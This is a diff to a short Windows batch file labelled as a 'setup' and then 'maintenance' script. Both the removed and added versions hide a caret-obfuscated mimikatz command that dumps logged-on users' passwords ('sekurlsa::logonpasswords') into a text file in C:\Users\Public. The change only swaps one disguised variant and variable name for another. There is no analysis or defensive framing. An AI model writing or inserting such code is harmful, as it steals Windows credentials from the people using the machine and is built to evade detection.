@@ -1,4 +1,4 @@
-REM setup 6173 v1
+REM maintenance 6160 v1
 @echo off
-set svjt=^mimik^at^z.e^x^e "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\^U^s^ers\^Pub^lic\^m.tx^t
-call %svjt%
+set udfz=^m^im^i^ka^tz.^e^xe "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\^Us^e^rs\^Public\m.^txt
+call %udfz%
